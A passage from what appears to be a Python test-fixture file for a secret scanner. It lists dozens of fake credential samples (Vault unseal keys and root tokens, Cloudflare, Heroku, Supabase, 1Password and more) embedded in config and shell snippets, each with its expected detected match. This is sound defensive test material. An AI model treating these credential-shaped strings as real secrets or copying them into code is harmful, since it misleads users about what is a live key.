        "08a9c03ed4d5336e7080026cc1708d3ccd65ccb1b9ca165d508bd76576f4",
        (
            (
                "sntryu_d072"
                "08a9c03ed4d5336e7080026cc1708d3ccd65ccb1b9ca165d508bd76576f4"
            ),
        ),
    ),
    SecretSample(
        "grafana-sa",
        "dash.sh",
        'curl -H "Authorization: Bearer glsa_yEHO'
        'k1gH8Yvi6EL5rQINc5WZhB5RBgP7_6ccb31e0" https://g.belgarfe.io/api/org',
        (
            (
                "glsa_yEHO"
                "k1gH8Yvi6EL5rQINc5WZhB5RBgP7_6ccb31e0"
            ),
        ),
    ),
    SecretSample(
        "grafana-cloud",
        "agent.yaml",
        "password: glc_eyJvIjoi"
        "NDgyMTEzIiwibiI6InN0YWNrLWNpIiwiayI6InBTWTJDSGpVR1c1aENsZmpSRDlaMDFrMyIsIm0iOnsiciI6InBy"
        "b2QtZXUtd2VzdC0yIn19",
        (
            (
                "glc_eyJvIjoi"
                "NDgyMTEzIiwibiI6InN0YWNrLWNpIiwiayI6InBTWTJDSGpVR1c1aENsZmpSRDlaMDFrMyIsIm0iOnsiciI6InBy"
                "b2QtZXUtd2VzdC0yIn19"
            ),
        ),
    ),
    SecretSample(
        "grafana-legacy",
        "g.tf",
        'auth = "eyJrIjoi'
        'RnlZQlRyYkE1eDJpNGtWM2Q1bGp4OU9FcGZaUUt0SkQiLCJuIjoiY2kiLCJpZCI6MX0="',
        (
            (
                "eyJrIjoi"
                "RnlZQlRyYkE1eDJpNGtWM2Q1bGp4OU9FcGZaUUt0SkQiLCJuIjoiY2kiLCJpZCI6MX0="
            ),
        ),
    ),
    SecretSample(
        "honeycomb",
        "otel.yaml",
        "headers:\n"
        "  x-honeycomb-team: hcaik_01ge6w"
        "j6u2ye1bh1wh3v2tgvhzhbppna"
        "8go78yall8oyl3knfnt3xlc6o8vf",
        (
            (
                "hcaik_01ge6w"
                "j6u2ye1bh1wh3v2tgvhzhbppna"
                "8go78yall8oyl3knfnt3xlc6o8vf"
            ),
        ),
    ),
    SecretSample(
        "pagerduty",
        "pd.rb",
        'PD_TOKEN = "u+wty5'
        'tlkmvivVMPOFHZ"',
        (
            (
                "u+wty5"
                "tlkmvivVMPOFHZ"
            ),
        ),
    ),
    SecretSample(
        "opsgenie",
        "alert.yml",
        "opsgenie_api_key: 5e51dbdc"
        "-65bd-4e88-b31e-27cb917729eb",
        (
            (
                "5e51dbdc"
                "-65bd-4e88-b31e-27cb917729eb"
            ),
        ),
    ),
    SecretSample(
        "dynatrace",
        "dt.env",
        "DT_API_TOKEN=dt0c01.UZXA"
        "34N9BPI5AZHV08YQEQFB.08DK"
        "T3X55F88K2XUYZ23FAEYARFX0N178Z4CEQRWAF0C0KI062R351MN1WGZLIJW",
        (
            (
                "08DK"
                "T3X55F88K2XUYZ23FAEYARFX0N178Z4CEQRWAF0C0KI062R351MN1WGZLIJW"
            ),
        ),
    ),
    SecretSample(
        "splunk-hec",
        "fluent.conf",
        "hec_token 824a7f41"
        "-ab00-449d-91a6-4f0579d0089e",
        (
            (
                "824a7f41"
                "-ab00-449d-91a6-4f0579d0089e"
            ),
        ),
    ),
    SecretSample(
        "splunk-hec-header",
        "send.sh",
        'curl -k https://splunk:8088/services/collector -H "Authorization: Splunk c285dbf4'
        "-8c48-4e15-91f1-5a12cfda2f9e\" -d '{}'",
        (
            (
                "c285dbf4"
                "-8c48-4e15-91f1-5a12cfda2f9e"
            ),
        ),
    ),
    SecretSample(
        "elastic-apikey",
        "es.py",
        'es = Elasticsearch(URL, api_key="M0VIVGtu'
        'VkE2QjBUSTdJVWE5VEI6UktlWjhCZmFqR1F3alQ3dC00N08yTw==")',
        (
            (
                "M0VIVGtu"
                "VkE2QjBUSTdJVWE5VEI6UktlWjhCZmFqR1F3alQ3dC00N08yTw=="
            ),
        ),
    ),
    SecretSample(
        "rollbar",
        "rb.rb",
        "config.access_token = '743f"
        "554904af992003f689305e732dd8'",
        (
            (
                "743f"
                "554904af992003f689305e732dd8"
            ),
        ),
    ),
    SecretSample(
        "vault-service",
        "vault.env",
        "VAULT_TOKEN=hvs.CAESIDu__"
        "lPrbW2JBI4iCxmJgHJT33h1BgmWP4-pFnCPrD8YRbeoZxIbJbCV819yCVCOBNwUfRp1nEhPKbdl6EEDVSKhgfs",
        (
            (
                "hvs.CAESIDu__"
                "lPrbW2JBI4iCxmJgHJT33h1BgmWP4-pFnCPrD8YRbeoZxIbJbCV819yCVCOBNwUfRp1nEhPKbdl6EEDVSKhgfs"
            ),
        ),
    ),
    SecretSample(
        "vault-legacy",
        "vault.hcl",
        'token = "s.p21r'
        '6aK41sEDhNSEiOrTAkxq"',
        (
            (
                "s.p21r"
                "6aK41sEDhNSEiOrTAkxq"
            ),
        ),
    ),
    SecretSample(
        "vault-batch",
        "agent.log",
        "[INFO] auth.handler: renewed token hvb.AAAAAQ8fb1"
        "FUbjTb1W5_p1KUt9pc6ZPOC2btCBxpcE8KSF7NEkTcjWcYilfgVaHBF1Ff1LjdjPgmn1tWMrgQ4UyV4wnAwMVh6v"
        "THBi2FrdDRYoO9QWItPpdSuE_zsjbHrRQgcfmhfg87hgeUtNnT_Em8EtxA",
        (
            (
                "hvb.AAAAAQ8fb1"
                "FUbjTb1W5_p1KUt9pc6ZPOC2btCBxpcE8KSF7NEkTcjWcYilfgVaHBF1Ff1LjdjPgmn1tWMrgQ4UyV4wnAwMVh6v"
                "THBi2FrdDRYoO9QWItPpdSuE_zsjbHrRQgcfmhfg87hgeUtNnT_Em8EtxA"
            ),
        ),
    ),
    SecretSample(
        "vault-unseal",
        "UNSEAL.md",
        "Unseal Key 1: xccI"
        "TR0PZFPrTY+wg9C+ePUkv/tf3NpPaA5qjEEN0m0G\n"
        "Unseal Key 2: 4Srx"
        "YMzQnJw6YwU/9pkMppmv7rsLaJaRmDzJu4mr8Hy8\n"
        "Initial Root Token: hvs.LBgA"
        "4LEVbkBswiAIB2rNscqK",
        (
            (
                "xccI"
                "TR0PZFPrTY+wg9C+ePUkv/tf3NpPaA5qjEEN0m0G"
            ),
            (
                "4Srx"
                "YMzQnJw6YwU/9pkMppmv7rsLaJaRmDzJu4mr8Hy8"
            ),
            (
                "hvs.LBgA"
                "4LEVbkBswiAIB2rNscqK"
            ),
        ),
    ),
    SecretSample(
        "vault-approle",
        "approle.json",
        '{"role_id": "87327881'
        '-69ff-456e-a0d1-95b6d6c2d131", "secret_id": "f729529e'
        '-c60b-43e8-ad85-87ae3795c07c"}',
        (
            (
                "f729529e"
                "-c60b-43e8-ad85-87ae3795c07c"
            ),
        ),
    ),
    SecretSample(
        "terraform-cloud",
        ".terraformrc",
        'credentials "app.terraform.io" {\n'
        '  token = "YLej'
        "6xzAr8MquH.atlasv1.7lQX"
        'U7RuUCjHjbrbaixzxQbmqsUBeIHlVdi3o_5uO7v48SnAWId_XYFcza23RYrQ1z4"\n'
        "}",
        (
            (
                "YLej"
                "6xzAr8MquH.atlasv1.7lQX"
                "U7RuUCjHjbrbaixzxQbmqsUBeIHlVdi3o_5uO7v48SnAWId_XYFcza23RYrQ1z4"
            ),
        ),
    ),
    SecretSample(
        "digitalocean",
        "do.env",
        "DIGITALOCEAN_TOKEN=dop_v1_cd69"
        "0dcca3b59a03dc8208332573bb766d51579022c9c22b3952807fb668d588",
        (
            (
                "dop_v1_cd69"
                "0dcca3b59a03dc8208332573bb766d51579022c9c22b3952807fb668d588"
            ),
        ),
    ),
    SecretSample(
        "digitalocean-refresh",
        "doctl.yaml",
        "refresh-token: dor_v1_6e96"
        "58ed97a6e93fd2af055d1ef29a07fbc310bac71553b0e5d44020d954b1a8",
        (
            (
                "dor_v1_6e96"
                "58ed97a6e93fd2af055d1ef29a07fbc310bac71553b0e5d44020d954b1a8"
            ),
        ),
    ),
    SecretSample(
        "digitalocean-spaces",
        "s3cfg",
        "access_key = DO00IS4D"
        "ZUZF8BAJTJ3P\n"
        "secret_key = Kg9V"
        "NPO0h8pqb+aq1vxb2ynfGHgSJE3UTqfsnpdBkzF",
        (
            (
                "Kg9V"
                "NPO0h8pqb+aq1vxb2ynfGHgSJE3UTqfsnpdBkzF"
            ),
        ),
    ),
    SecretSample(
        "heroku-uuid",
        ".env",
        "HEROKU_API_KEY=6a8e31a3"
        "-a54b-42f6-b724-e508053c3820",
        (
            (
                "6a8e31a3"
                "-a54b-42f6-b724-e508053c3820"
            ),
        ),
    ),
    SecretSample(
        "heroku-new",
        "deploy.sh",
        "heroku config -a api --token HRKU-AAJQBF"
        "sW31K6UwPl_vxXD1rEt-M-0k9pks8zSQXgUdslMM5ShleeTFBZFSoV",
        (
            (
                "HRKU-AAJQBF"
                "sW31K6UwPl_vxXD1rEt-M-0k9pks8zSQXgUdslMM5ShleeTFBZFSoV"
            ),
        ),
    ),
    SecretSample(
        "heroku-netrc",
        ".netrc",
        "machine api.heroku.com\n"
        "  login ops@wowobawo.io\n"
        "  password 4ac3c46a"
        "-57ce-4742-82d5-44a05eea6a4c",
        (
            (
                "4ac3c46a"
                "-57ce-4742-82d5-44a05eea6a4c"
            ),
        ),
    ),
    SecretSample(
        "flyio",
        "fly.env",
        'FLY_API_TOKEN="FlyV1 fm2_z+12'
        "lT/J26S0N4nhBtVMF1liUFPVH3owplx3gnMOiLwXU6kIlef8G/GDSIYq5WWIZRtXi9nTAOW0lKkMcDKPqObvHY2h"
        'Q42/QsCG57tccV9q1kqk0nIeAWRMQlBGuCXWQ/64B6DOZsoAXGMJCjQLsUcS+ih2jHTor0JSMTarwgGj6hjDCShp"',
        (
            (
                "fm2_z+12"
                "lT/J26S0N4nhBtVMF1liUFPVH3owplx3gnMOiLwXU6kIlef8G/GDSIYq5WWIZRtXi9nTAOW0lKkMcDKPqObvHY2h"
                "Q42/QsCG57tccV9q1kqk0nIeAWRMQlBGuCXWQ/64B6DOZsoAXGMJCjQLsUcS+ih2jHTor0JSMTarwgGj6hjDCShp"
            ),
        ),
    ),
    SecretSample(
        "flyio-old",
        "fly.sh",
        "fly deploy -t fo1_dDEY"
        "zSI6xqAZtd3Qa5I1Ti-Prr_hi1qzk0ZofN8aBN2",
        (
            (
                "fo1_dDEY"
                "zSI6xqAZtd3Qa5I1Ti-Prr_hi1qzk0ZofN8aBN2"
            ),
        ),
    ),
    SecretSample(
        "netlify",
        "netlify.sh",
        "netlify deploy --auth nfp_NdA1"
        "rLABQ1FUXcQh5iPMGHNmBCWLPnW91quY --prod",
        (
            (
                "nfp_NdA1"
                "rLABQ1FUXcQh5iPMGHNmBCWLPnW91quY"
            ),
        ),
    ),
    SecretSample(
        "vercel",
        "ci.sh",
        "vercel deploy --token=vPqx"
        "bSTlPIcoTVI5Ezs8nxGs --prod",
        (
            (
                "vPqx"
                "bSTlPIcoTVI5Ezs8nxGs"
            ),
        ),
    ),
    SecretSample(
        "cloudflare-token",
        "cf.tf",
        'api_token = "OJxw'
        '72DkJGgph0FHSBaYiKW8EFvgB4EHP8a-xHSC"',
        (
            (
                "OJxw"
                "72DkJGgph0FHSBaYiKW8EFvgB4EHP8a-xHSC"
            ),
        ),
    ),
    SecretSample(
        "cloudflare-global",
        "cf.env",
        "CF_API_EMAIL=ops@wocorros.io\n"
        "CF_API_KEY=3efb"
        "be7c7a3ea7eef38d2b9f59823b7d4ceba",
        (
            (
                "3efb"
                "be7c7a3ea7eef38d2b9f59823b7d4ceba"
            ),
        ),
    ),
    SecretSample(
        "cloudflare-origin-ca",
        "ca.sh",
        'curl -H "X-Auth-User-Service-Key: v1.0-1453'
        "ffe757a9da370c3d7b66-4fd2"
        "2b7e3dbdf73d0ed7ee2e55dcbf8d3b88543c8bfc2e00b4563f1367ed4f8e3cd11ee8e5707be23eafe88bf14b"
        '4ce13175d72486a58e0e9ab68192e7d26295a76719d959b6fd9fd2" https://api.cloudflare.com/clien'
        "t/v4/certificates",
        (
            (
                "v1.0-1453"
                "ffe757a9da370c3d7b66-4fd2"
                "2b7e3dbdf73d0ed7ee2e55dcbf8d3b88543c8bfc2e00b4563f1367ed4f8e3cd11ee8e5707be23eafe88bf14b"
                "4ce13175d72486a58e0e9ab68192e7d26295a76719d959b6fd9fd2"
            ),
        ),
    ),
    SecretSample(
        "cloudflare-tunnel",
        "docker-compose.yml",
        "command: tunnel run --token eyJhIjoi"
        "ZGVlMWJkYTM0YmQ4MTY0NmZmYjRhMTlkOTIzZTYzYjMiLCJ0IjoiZjM3YWFjMWYtNjFlMC00YWE1LTgzZjUtN2I4"
        "ZWI4MDUxMWNhIiwicyI6ImpheitDU04yM3R5VmlLei9xQmtHUWxwQnhlTXFoSFcrbVZKMC9qd1lEREU9In0=",
        (
            (
                "eyJhIjoi"
                "ZGVlMWJkYTM0YmQ4MTY0NmZmYjRhMTlkOTIzZTYzYjMiLCJ0IjoiZjM3YWFjMWYtNjFlMC00YWE1LTgzZjUtN2I4"
                "ZWI4MDUxMWNhIiwicyI6ImpheitDU04yM3R5VmlLei9xQmtHUWxwQnhlTXFoSFcrbVZKMC9qd1lEREU9In0="
            ),
        ),
    ),
    SecretSample(
        "turnstile",
        "turnstile.env",
        "TURNSTILE_SECRET_KEY=0x4AAAAAAAB5xe"
        "2IaJDcPOEB6vMxGUMMeO4ja",
        (
            (
                "0x4AAAAAAAB5xe"
                "2IaJDcPOEB6vMxGUMMeO4ja"
            ),
        ),
    ),
    SecretSample(
        "recaptcha",
        "captcha.php",
        "$recaptcha_secret = '6Lgc4CLAAAAA8G5g"
        "MJG4aIC8Z8Lybt2WWi-b9vOV';",
        (
            (
                "6Lgc4CLAAAAA8G5g"
                "MJG4aIC8Z8Lybt2WWi-b9vOV"
            ),
        ),
    ),
    SecretSample(
        "supabase-pat",
        "sb.env",
        "SUPABASE_ACCESS_TOKEN=sbp_b5dc"
        "2cbb185b097ec220af6e053e76d876656edf",
        (
            (
                "sbp_b5dc"
                "2cbb185b097ec220af6e053e76d876656edf"
            ),
        ),
    ),
    SecretSample(
        "supabase-secret",
        "sb.ts",
        'createClient(url, "sb_secret_g1mJ'
        'qa7S6CYOWI3xwuOi9G_0MnUs0VT");',
        (
            (
                "sb_secret_g1mJ"
                "qa7S6CYOWI3xwuOi9G_0MnUs0VT"
            ),
        ),
    ),
    SecretSample(
        "supabase-service-role",
        "sb.env",
        "SUPABASE_SERVICE_ROLE_KEY=eyJhbGci"
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJzdXBhYmFzZSIsInJlZiI6ImltcWRnYnZhcndxbG5ndGZwZWp"
        "6Iiwicm9sZSI6InNlcnZpY2Vfcm9sZSIsImlhdCI6MTcxNDYwMDMyMSwiZXhwIjoyMDMwMTc2MzIxfQ.BfCov4kb"
        "XfNHmXHzMJp2GJwHja1RTiBhj5MtbPPL_UY",
        (
            (
                "eyJhbGci"
                "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJzdXBhYmFzZSIsInJlZiI6ImltcWRnYnZhcndxbG5ndGZwZWp"
                "6Iiwicm9sZSI6InNlcnZpY2Vfcm9sZSIsImlhdCI6MTcxNDYwMDMyMSwiZXhwIjoyMDMwMTc2MzIxfQ.BfCov4kb"
                "XfNHmXHzMJp2GJwHja1RTiBhj5MtbPPL_UY"
            ),
        ),
    ),
    SecretSample(
        "fcm-server-key",
        "push.php",
        "'Authorization: key=AAAATc46wU9:APA91bZaeh"
        "VxhosaFmAE96X_7gYOJInuicAr5LckHUc4WLJKz09gNP59jK4sYfnOyzCkKWdSSONDHfD3gHid_Vaso63btN48X4"
        "Q98AMcbd7y7LSEqZzOkNTAyHmqRmuwrgjsiuqQjBMu'",
        (
            (
                "AAAATc46wU9:APA91bZaeh"
                "VxhosaFmAE96X_7gYOJInuicAr5LckHUc4WLJKz09gNP59jK4sYfnOyzCkKWdSSONDHfD3gHid_Vaso63btN48X4"
                "Q98AMcbd7y7LSEqZzOkNTAyHmqRmuwrgjsiuqQjBMu"
            ),
        ),
    ),
    SecretSample(
        "fcm-server-key",
        "application.yml",
        "fcm:\n"
        "  server-key: AAAA7o-4bTN:APA91bz2K8"
        "Pz6IzwaHARLxd6sCHwq0YG-OdU3QvWcRNWDhI3WTOjLinZ6jcWDD63ic-jDMbozGIEW3sga1SoggXffLM6uyDLbS"
        "YIHmBmOYUbPWjvVTdLR_THW3qUM-LWAaYfb-DFi_G6",
        (
            (
                "AAAA7o-4bTN:APA91bz2K8"
                "Pz6IzwaHARLxd6sCHwq0YG-OdU3QvWcRNWDhI3WTOjLinZ6jcWDD63ic-jDMbozGIEW3sga1SoggXffLM6uyDLbS"
                "YIHmBmOYUbPWjvVTdLR_THW3qUM-LWAaYfb-DFi_G6"
            ),
        ),
    ),
    SecretSample(
        "algolia-admin",
        "search.js",
        'const client = algoliasearch("QLPS'
        '03P1TO", "f179'
        '5ef13b2cf212ac703008f268592d");',
        (
            (
                "f179"
                "5ef13b2cf212ac703008f268592d"
            ),
        ),
    ),
    SecretSample(
        "algolia-admin",
        ".env",
        "ALGOLIA_ADMIN_KEY=09aa"
        "85ff2ff79c49251ae0bae16e6958",
        (
            (
                "09aa"
                "85ff2ff79c49251ae0bae16e6958"
            ),
        ),
    ),
    SecretSample(
        "mapbox-secret",
        "gradle.properties",
        "MAPBOX_DOWNLOADS_TOKEN=sk.eyJ1Ijoi"
        "a3VmaWJhdmUiLCJhIjoiY2xyNmx2MTVlODNyODZ0bHJsZnVqYWhvdSJ9.mNpF"
        "U4B2Ol1MQDJ5_qOMDF",
        (
            (
                "sk.eyJ1Ijoi"
                "a3VmaWJhdmUiLCJhIjoiY2xyNmx2MTVlODNyODZ0bHJsZnVqYWhvdSJ9.mNpF"
                "U4B2Ol1MQDJ5_qOMDF"
            ),
        ),
    ),
    SecretSample(
        "linear",
        "linear.ts",
        'new LinearClient({ apiKey: "lin_api_ONTF'
        '3SgnKswjeiWzjMl4qaxgKJ03bZGSgTjhocZ7" });',
        (
            (
                "lin_api_ONTF"
                "3SgnKswjeiWzjMl4qaxgKJ03bZGSgTjhocZ7"
            ),
        ),
    ),
    SecretSample(
        "notion-new",
        "notion.py",
        'notion = Client(auth="ntn_6943'
        "9132848L2iq"
        'G8ZFFwhCqKM0eooWleR9whDAweIpC4G")',
        (
            (
                "ntn_6943"
                "9132848L2iq"
                "G8ZFFwhCqKM0eooWleR9whDAweIpC4G"
            ),
        ),
    ),
    SecretSample(
        "notion-old",
        "notion.js",
        'auth: "secret_y7tw'
        'SpcRj38dzUAHychhyVsQwQfNmdwJJgxu2MxJyNc",',
        (
            (
                "secret_y7tw"
                "SpcRj38dzUAHychhyVsQwQfNmdwJJgxu2MxJyNc"
            ),
        ),
    ),
    SecretSample(
        "airtable",
        "air.py",
        'Table("patcF5G'
        "5ILTTTx1NU.92d0"
        'c775cac9d87f46205652d2310fb76ac776886c149feee95dbae35513c2b8", "appYEkl'
        '3b0Bvc7dVH", "Tasks")',
        (
            (
                "patcF5G"
                "5ILTTTx1NU.92d0"
                "c775cac9d87f46205652d2310fb76ac776886c149feee95dbae35513c2b8"
            ),
        ),
    ),
    SecretSample(
        "airtable-old",
        "air.env",
        "AIRTABLE_API_KEY=keyTcze"
        "eGj1GWb82G",
        (
            (
                "keyTcze"
                "eGj1GWb82G"
            ),
        ),
    ),
    SecretSample(
        "asana",
        "asana.py",
        'client = asana.Client.access_token("1/6058'
        "159143558815:6ef0"
        '763d4e5cac79cadd1856c3cc187a")',
        (
            (
                "6ef0"
                "763d4e5cac79cadd1856c3cc187a"
            ),
        ),
    ),
    SecretSample(
        "asana-v2",
        "asana.env",
        "ASANA_PAT=2/8341"
        "437866967519/9119"
        "580594899715:cbd4"
        "04e50b3f0df5c2d186335035b14b",
        (
            (
                "cbd4"
                "04e50b3f0df5c2d186335035b14b"
            ),
        ),
    ),
    SecretSample(
        "trello",
        "trello.sh",
        'curl "https://api.trello.com/1/members/me?key=0ef3'
        "278db1a8a5afe8b52b04268e4fdc&token=ATTA2d62"
        '76b6625b263bcf0f7ad69c1ce0ee474a2b4feb5bea48a35efe03702bdd66A696A828"',
        (
            (
                "ATTA2d62"
                "76b6625b263bcf0f7ad69c1ce0ee474a2b4feb5bea48a35efe03702bdd66A696A828"
            ),
        ),
    ),
    SecretSample(
        "databricks",
        ".databrickscfg",
        "[DEFAULT]\n"
        "host = https://adb-1759"
        "219373996918.7.azuredatabricks.net\n"
        "token = dapi19b6"
        "d302360625e8f45ca0d4be6b47f2-2",
        (
            (
                "dapi19b6"
                "d302360625e8f45ca0d4be6b47f2"
            ),
        ),
    ),
    SecretSample(
        "databricks",
        "job.py",
        'sql.connect(server_hostname=h, http_path=p, access_token="dapie2cc'
        'b1ec8c95f562ddd6e3cb86afef63")',
        (
            (
                "dapie2cc"
                "b1ec8c95f562ddd6e3cb86afef63"
            ),
        ),
    ),
    SecretSample(
        "snowflake",
        "profiles.yml",
        "type: snowflake\n"
        "account: delazanf-eu\n"
        "user: DBT\n"
        "password: LyJCOYfn"
        "e!_5^t47L04",
        (
            (
                "LyJCOYfn"
                "e!_5^t47L04"
            ),
        ),
    ),
    SecretSample(
        "snowflake-url",
        "etl.py",
        'create_engine("snowflake://loader:FUaL'
        'oCZiaGOKGXRfBx06YoBk6@wofizanf/RAW/PUBLIC?warehouse=WH")',
        (
            (
                "FUaL"
                "oCZiaGOKGXRfBx06YoBk6"
            ),
        ),
    ),
    SecretSample(
        "confluent",
        "client.properties",
        "sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required userna"
        "me='RB7P"
        "1QTHUTJZW45Q' password='JPuT"
        "N7MofDrkEKpsJKFOh7gvBeEZZh+c+51KjunKMxj4Q5yGvtJ3Oi+zS838jmjS';",
        (
            (
                "JPuT"
                "N7MofDrkEKpsJKFOh7gvBeEZZh+c+51KjunKMxj4Q5yGvtJ3Oi+zS838jmjS"
            ),
        ),
    ),
    SecretSample(
        "confluent-new",
        "kafka.env",
        "CLUSTER_API_SECRET=cfltTuVy"
        "kmYpzfL9+bnEOxocJyL6/AtgAhwCAQ9TcaL5b70jldmRTsxTkI/V8qDT",
        (
            (
                "cfltTuVy"
                "kmYpzfL9+bnEOxocJyL6/AtgAhwCAQ9TcaL5b70jldmRTsxTkI/V8qDT"
            ),
        ),
    ),
    SecretSample(
        "planetscale",
        "db.env",
        "DATABASE_PASSWORD=pscale_pw_2q1p"
        "-hVeyEkCBFNPZcGZhRpmqoFUXP9LiLbrGPeYmmZ",
        (
            (
                "pscale_pw_2q1p"
                "-hVeyEkCBFNPZcGZhRpmqoFUXP9LiLbrGPeYmmZ"
            ),
        ),
    ),
    SecretSample(
        "doppler",
        "ci.yml",
        "DOPPLER_TOKEN: dp.st.prd.gdtB"
        "wne68TW4nKNtKm9bWKSBDFpUc7Fs2Y7PRL8s6uz",
        (
            (
                "dp.st.prd.gdtB"
                "wne68TW4nKNtKm9bWKSBDFpUc7Fs2Y7PRL8s6uz"
            ),
        ),
    ),
    SecretSample(
        "onepassword-sa",
        "op.env",
        "OP_SERVICE_ACCOUNT_TOKEN=ops_eyJzaWdu"
        "SW5BZGRyZXNzIjoibXkuMXBhc3N3b3JkLmNvbSIsInVzZXJBdXRoIjp7Im1ldGhvZCI6IlNSUGctNDA5NiIsImFs"
        "ZyI6IlBCRVMyZy1IUzI1NiIsIml0ZXJhdGlvbnMiOjY1MDAwMCwic2FsdCI6Im11UkFDNmlMUEVDUFprZE81RGI0"
        "NmMifSwiZW1haWwiOiJrejQwTThXUUAxcGFzc3dvcmRzZXJ2aWNlYWNjb3VudHMuY29tIiwic3JwWCI6ImVlMTEy"
        "MGE3MzI4YzZiODI5MTg3YTdiN2YzNTY0NTg1NDhmZDJjOWU1NjY0NTI4ZGUzNDVlZTlkZjU2YTFkNzgiLCJtdWsi"
        "OnsiYWxnIjoiQTI1NkdDTSIsImsiOiJmS2ZRLU15SVFCRDBpaHFkalVRb3U2bEM1YV95eHhnQXd5WENpM3E0OWxMIn19",
        (
            (
                "ops_eyJzaWdu"
                "SW5BZGRyZXNzIjoibXkuMXBhc3N3b3JkLmNvbSIsInVzZXJBdXRoIjp7Im1ldGhvZCI6IlNSUGctNDA5NiIsImFs"
                "ZyI6IlBCRVMyZy1IUzI1NiIsIml0ZXJhdGlvbnMiOjY1MDAwMCwic2FsdCI6Im11UkFDNmlMUEVDUFprZE81RGI0"
                "NmMifSwiZW1haWwiOiJrejQwTThXUUAxcGFzc3dvcmRzZXJ2aWNlYWNjb3VudHMuY29tIiwic3JwWCI6ImVlMTEy"
                "MGE3MzI4YzZiODI5MTg3YTdiN2YzNTY0NTg1NDhmZDJjOWU1NjY0NTI4ZGUzNDVlZTlkZjU2YTFkNzgiLCJtdWsi"
                "OnsiYWxnIjoiQTI1NkdDTSIsImsiOiJmS2ZRLU15SVFCRDBpaHFkalVRb3U2bEM1YV95eHhnQXd5WENpM3E0OWxMIn19"
            ),
        ),
    ),
    SecretSample(
        "onepassword-secret-key",
        "emergency-kit.txt",
        "Secret Key: A3-IEQ9AH-FXMVZS-GSYHF-E6UI5-AR382-JSEZV",
        (
            "A3-IEQ9AH-FXMVZS-GSYHF-E6UI5-AR382-JSEZV",
        ),
    ),
    SecretSample(
        "postman",
        "newman.sh",
        'newman run "https://api.getpostman.com/collections/1?apikey=PMAK-d1ed'
        "7651cdb8add75962eae9-3837"
        '59f3d74ece8be4b19d8cf95cc57299"',
        (
            (
                "PMAK-d1ed"
                "7651cdb8add75962eae9-3837"
                "59f3d74ece8be4b19d8cf95cc57299"
            ),
        ),
    ),
    SecretSample(
        "figma",
        "tokens.mjs",
        'headers: { "X-Figma-Token": "figd_k2b2'
        '9ec4P9PKZJezDrz7FHwmO0LOIhlViFvSrq2O" }',
        (
            (
                "figd_k2b2"
                "9ec4P9PKZJezDrz7FHwmO0LOIhlViFvSrq2O"
            ),
        ),
    ),
    SecretSample(
        "dropbox",
        "dbx.py",
        'dbx = dropbox.Dropbox("sl.n_ow'
        "J9ANnh6gc_svVNMQG7MmXjTAmTA2zRiUsNcGB4E6LW2ItZGDNN-FDszkVqJA5uE90jWHT7RioWSX-uvlVvTi-fQR"
        'r2mXB8j-IJqC4KD9OZxFry-ts_7gM4lg00tYqFRkuL7Q")',
        (
            (
                "sl.n_ow"
                "J9ANnh6gc_svVNMQG7MmXjTAmTA2zRiUsNcGB4E6LW2ItZGDNN-FDszkVqJA5uE90jWHT7RioWSX-uvlVvTi-fQR"
                "r2mXB8j-IJqC4KD9OZxFry-ts_7gM4lg00tYqFRkuL7Q"
            ),
        ),
    ),
    SecretSample(
        "contentful",
        "cms.ts",
        'const client = createClient({ accessToken: "CFPAT-oFRp'
        'y4-2CJLgXiqIPPqGBuf5Fop5hV_VA-XTl_2-Oc6" });',
        (
            (
                "CFPAT-oFRp"
                "y4-2CJLgXiqIPPqGBuf5Fop5hV_VA-XTl_2-Oc6"
            ),
        ),
    ),
    SecretSample(
        "typeform",
        "tf.env",
        "TYPEFORM_TOKEN=tfp_xvIU"
        "navKx73AE487irBR9DRFI5sbUtaysTnTpRY5ZTgX_VzXh"
        "htSxZGXQ04",
        (
            (
                "tfp_xvIU"
                "navKx73AE487irBR9DRFI5sbUtaysTnTpRY5ZTgX_VzXh"
                "htSxZGXQ04"
            ),
        ),
    ),
    SecretSample(
        "hubspot",
        "hub.rb",
        "access_token: 'pat-eu1-99cd8d30"
        "-9a9d-47d4-acc7-107ce8b24f8b'",
        (
            (
                "pat-eu1-99cd8d30"
                "-9a9d-47d4-acc7-107ce8b24f8b"
            ),
        ),
    ),
    SecretSample(
        "okta",
        "okta.yaml",
        "okta:\n"
        "  client:\n"
        "    token: 00JShb"
        "MxX5y49Ph9kJjHNNCc9gJG-Dgl2ECU95UOXW",
        (
            (
                "00JShb"
                "MxX5y49Ph9kJjHNNCc9gJG-Dgl2ECU95UOXW"
            ),
        ),
    ),
    SecretSample(
        "auth0-secret",
        "auth.env",
        "AUTH0_CLIENT_SECRET=hq9O"
        "2Luw1AH3df7gSiZ2ZNqrFg8dKG6LwgOhX3kSzoZBdixRfnaYw-dGKgCrrXiB",
        (
            (
                "hq9O"
                "2Luw1AH3df7gSiZ2ZNqrFg8dKG6LwgOhX3kSzoZBdixRfnaYw-dGKgCrrXiB"
            ),
        ),
    ),
    SecretSample(
        "jfrog",
        "settings.xml",
        "<server><id>art</id><username>ci</username><password>AKCpU5M3"
        "Nl03tYLamizy4hLHabPkELl7UMTzlu11CAHTfZBwLGqNIvnZDl8nvAS5SOA5v8fBx</password></server>",
        (
            (
                "AKCpU5M3"
                "Nl03tYLamizy4hLHabPkELl7UMTzlu11CAHTfZBwLGqNIvnZDl8nvAS5SOA5v8fBx"
            ),
        ),
    ),
    SecretSample(
        "jfrog-ref",
        "jf.sh",
        "jf c add --access-token cmVmdGtuOjAxOjILJ1"
        "udX/yTcE1MB9DbMfrlMLz6nsIXd62vwEDaBY8/0rhP8SNQxt7XpF",
        (
            (
                "cmVmdGtuOjAxOjILJ1"
                "udX/yTcE1MB9DbMfrlMLz6nsIXd62vwEDaBY8/0rhP8SNQxt7XpF"
            ),
        ),
    ),
    SecretSample(
        "sonarqube",
        "sonar.sh",
        "mvn sonar:sonar -Dsonar.token=sqp_6a60"
        "981dec842bd2f1cc6d60efb7425df9441b3a",
        (
            (
                "sqp_6a60"
                "981dec842bd2f1cc6d60efb7425df9441b3a"
            ),
        ),
    ),
    SecretSample(
        "snyk",
        "ci.env",
        "SNYK_TOKEN=90bd0377"
        "-d467-4ec5-9d47-43304218dbef",
        (
            (
                "90bd0377"
                "-d467-4ec5-9d47-43304218dbef"
            ),
        ),
    ),
    SecretSample(
        "circleci",
        "cci.sh",
        'curl -H "Circle-Token: CCIPAT_OmjB'
        "99siUULZ1zzqdRRy9v_22d0"
